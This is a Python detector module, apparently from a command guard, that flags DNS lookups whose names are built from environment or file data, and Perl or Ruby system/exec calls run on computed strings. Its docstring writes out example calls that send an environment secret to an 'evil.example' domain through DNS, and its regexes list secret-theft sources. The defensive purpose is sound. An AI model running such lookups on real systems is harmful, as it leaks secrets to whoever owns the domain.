"""Two shapes of inline code the generic patterns missed:

- a DNS lookup of a name built from data (``gethostbyname(os.environ["KEY"] + ".evil.example")``,
  ``dns.lookup(process.env.KEY + ".x")``, ``Resolv.getaddress(…)``): the resolver asks the
  name's own servers, so the data reaches whoever owns the domain with no HTTP at all;
- Perl's and Ruby's ``system``/``exec`` without parentheses given a variable, the line's
  arguments or its input (``system @ARGV``, ``system $_``, ``system <STDIN>``, ``system
  gets``): a command known only at run time, as Python's ``os.system(sys.argv[1])`` is.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from clawkeep.guards.command_guard._inline_byname import call_args, unquoted
from clawkeep.guards.command_guard._langs_base import Gated

if TYPE_CHECKING:
    from clawkeep.guards.command_guard._walk import Walker

__all__ = ["bare_run", "resolves_data"]

_RESOLVE = Gated(
    "host addrinfo fqdn dns mxrr inet_aton resolv lookup",
    r"\b(?:gethostbyname(?:_ex|l)?|getaddrinfo|getfqdn|dns_get_record|checkdnsrr|getmxrr"
    r"|inet_aton)\b\s*(?P<open>\()?"
    r"|\b(?:dns(?:Promises)?|promises|resolver)\s*\.\s*(?:lookup\w*|resolve\w*|query)\s*(?P<o2>\()"
    r"|require\s*\(\s*[\"']dns(?:/promises)?[\"']\s*\)\s*(?:\.\s*promises\s*)?\.\s*"
    r"(?:lookup\w*|resolve\w*)\s*(?P<o3>\()"
    r"|\bResolv(?:::DNS)?(?:\s*\.\s*new(?:\s*\(\s*\))?)?\s*\.\s*(?:getaddress\w*|getresources?"
    r"|each_address)\b\s*(?P<o4>\()?",
)
# A name spelled in full: a literal that interpolates nothing.
_PLAIN = re.compile(r"\s*(?:\"[^\"\\$#{}]*\"|'[^'\\]*')\s*")
# Data the code reads: the environment, files, its input, encodings of them.
_DATA = re.compile(
    r"environ|getenv|process\.env|\$ENV\b|\bENV\b|\$_ENV|\$_SERVER|\bopen\s*\(|read|File\."
    r"|IO\.|fopen|file_get_contents|stdin|STDIN|\bgets\b|hex|b64|base64|encode|unpack|pack\s*\("
    r"|\bsecret|token|key",
    re.I,
)


def _first_arg(args: str) -> str:
    for index, char, depth in unquoted(args):
        if char == "," and depth == 0:
            return args[:index]
    return args


def resolves_data(lang: str, code: str, w: Walker) -> None:
    """Flag a DNS lookup whose name the code builds from data it reads."""
    for match in _RESOLVE.finditer(code):
        opened = next((k for k in ("open", "o2", "o3", "o4") if match.group(k)), None)
        if opened is not None:
            args = call_args(code, match.start(opened)) or code[match.end() :]
        else:  # Perl's and Ruby's calls without parentheses
            args = re.split(r"[;\n]", code[match.end() :], maxsplit=1)[0]
        name = _first_arg(args)
        if not name.strip() or _PLAIN.fullmatch(name):
            continue
        if re.search(r"[\"'`]", name) or _DATA.search(code):
            # exfiltration: the name looked up carries the data to the domain's servers
            w.flag("exfiltration", f"{lang} code looks up a DNS name built from data")
            return


# `system`/`exec`/`spawn` then a space and a variable, an array, <STDIN> or a bareword
# call (gets, ARGV[0]); not a literal, qw(…)/q(…) or a parenthesised list.
_BARE_RUN = re.compile(
    r"(?<![\w.$@%&:>-])(?:system|exec|spawn)[ \t]+"
    r"(?=[$@<]|\{\s*[$@]|(?!(?:q[qwx]?|if|unless|or|and|do)\b)[A-Za-z_])"
)
# Ruby's "#{…}" in the command string: a value known only at run time.
_INTERPOLATED = re.compile(r"(?<![\w.])(?:system|exec|spawn)\s*\(?\s*\"[^\"]*#\{")
_STRINGS = re.compile(r"\"(?:\\.|[^\"\\])*\"|'(?:\\.|[^'\\])*'")


def bare_run(lang: str, code: str, w: Walker) -> None:
    """Flag Perl's and Ruby's ``system $x`` / ``exec @ARGV`` (no parentheses, no literal)."""
    if lang not in ("perl", "ruby"):
        return
    blanked = _STRINGS.sub('""', code)  # words inside strings are not calls
    if _BARE_RUN.search(blanked) or (lang == "ruby" and _INTERPOLATED.search(code)):
        # dynamic_command: the command is a variable, the line's arguments or its input
        w.flag("dynamic_command", f"{lang} code starts a process from a computed string")
